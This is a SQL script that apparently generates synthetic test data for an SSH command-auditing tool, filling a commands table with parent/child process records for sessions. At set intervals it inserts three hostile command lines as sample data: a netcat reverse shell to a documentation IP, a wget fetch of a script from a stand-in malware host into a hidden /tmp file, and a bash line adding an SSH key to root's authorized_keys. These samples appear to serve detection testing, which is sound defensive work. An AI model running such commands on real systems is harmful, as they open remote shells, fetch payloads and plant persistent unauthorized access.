-- Commands @lo..@hi (one transaction per call, like a recorder batch). Command c belongs to login
-- k = (c - 1) * logins / @commands; its position j in that session starts at 0 (the login shell, the
-- root of the session's command tree). Most commands are children of the shell; every tenth one,
-- from j = 5, is a child of the command before it (a second level in `sshaudit show`).
BEGIN;
INSERT INTO commands (id, session_id, parent_id, pid, ppid, uid, filename, argv, argv_truncated, cwd,
    started_at, ended_at, duration_ms, exit_code, signal, recovered)
SELECT c, sid, parent,
    10000 + (c * 7) % 4000000,
    CASE WHEN parent IS NULL THEN s.sshd_pid + 1 ELSE 10000 + (parent * 7) % 4000000 END,
    s.uid,
    CASE WHEN j = 0 THEN '/bin/bash'
         WHEN c % 500000 = 123 THEN '/usr/bin/nc'
         WHEN c % 200000 = 777 THEN '/usr/bin/wget'
         WHEN c % 100000 = 4242 THEN '/bin/bash'
         ELSE v.filename END,
    CASE WHEN j = 0 THEN '["-bash"]'
         WHEN c % 500000 = 123 THEN '["nc","-e","/bin/sh","198.51.100.7","4444"]'
         WHEN c % 200000 = 777 THEN '["wget","-q","-O","/tmp/.x","http://malware.example/x.sh"]'
         WHEN c % 100000 = 4242 THEN '["bash","-c","echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl >> /root/.ssh/authorized_keys"]'
         ELSE replace(v.argv, '#', h % 10000) END,
    0, NULL,
    strftime('%Y-%m-%dT%H:%M:%fZ', at, 'unixepoch'),
    CASE WHEN running THEN NULL ELSE strftime('%Y-%m-%dT%H:%M:%fZ', at + d, 'unixepoch') END,
    CASE WHEN running THEN NULL ELSE CAST(d * 1000 AS INTEGER) END,
    CASE WHEN running THEN NULL WHEN j = 0 THEN s.exit_code WHEN h % 1000 = 7 THEN NULL
         WHEN h % 100 < 4 THEN 1 ELSE 0 END,
    CASE WHEN NOT running AND j > 0 AND h % 1000 = 7 THEN 9 END,
    0
FROM (
    SELECT x.*, s0 + 1 + j * (len - 2) / cnt AS at,
           CASE WHEN j = 0 THEN len - 1.5 WHEN h % 100 = 0 THEN 60 + h % 600 ELSE (h % 5000) / 1000.0 END AS d,
           open AND (j = 0 OR j = cnt - 1) AS running
    FROM (
        SELECT c, sid, j, cnt, h,
               CASE WHEN j = 0 THEN NULL WHEN j % 10 = 5 THEN c - 1 ELSE c - j END AS parent,
               (julianday(s.started_at) - 2440587.5) * 86400.0 AS s0,
               CASE WHEN s.ended_at IS NULL THEN 3600.0
                    ELSE (julianday(s.ended_at) - julianday(s.started_at)) * 86400.0 END AS len,
               s.ended_at IS NULL AS open
        FROM (
            SELECT c, (k / 3) * 10 + (k % 3) * 3 + 1 AS sid,
                   c - ((k * m + a - 1) / a + 1) AS j,
                   ((k + 1) * m + a - 1) / a - (k * m + a - 1) / a AS cnt,
                   ((c * 2654435761 + 12345) % 4294967296) >> 11 AS h
            FROM (SELECT value AS c, ((value - 1) * a) / m AS k, m, a
                  FROM gen_params, gen_logins, generate_series(@lo, @hi))
        ) JOIN sessions s ON s.id = sid
    ) x
) y
JOIN sessions s ON s.id = y.sid
LEFT JOIN gen_vocab v ON v.slot = y.h % (SELECT count(*) FROM gen_vocab)
ORDER BY c;
COMMIT;
